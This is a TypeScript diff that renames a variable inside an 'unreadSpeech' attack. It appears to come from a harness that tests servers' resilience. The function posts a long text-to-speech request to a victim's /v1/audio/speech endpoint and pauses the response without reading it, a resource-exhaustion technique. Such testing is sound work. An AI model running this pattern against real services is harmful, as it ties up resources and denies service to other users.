@@ -29,7 +29,7 @@ export const unreadSpeech: Attack = {
 };
 
 function unread(victim: Victim, credential: string, requests: DisposableStack): void {
-  const asked = request(new URL("/v1/audio/speech", victim.url), {
+  const speech = request(new URL("/v1/audio/speech", victim.url), {
     method: "POST",
     agent: false,
     headers: {
@@ -37,8 +37,8 @@ function unread(victim: Victim, credential: string, requests: DisposableStack): 
       "content-type": "application/json",
     },
   });
-  requests.defer(() => void asked.destroy());
-  asked.on("error", () => undefined).on("response", (answer) => answer.pause());
+  requests.defer(() => void speech.destroy());
+  speech.on("error", () => undefined).on("response", (answer) => answer.pause());
   const input = "Merhaba dünya. ".repeat(300);
-  asked.end(JSON.stringify({ voice: "ayla", input, response_format: "pcm" }));
+  speech.end(JSON.stringify({ voice: "ayla", input, response_format: "pcm" }));
 }
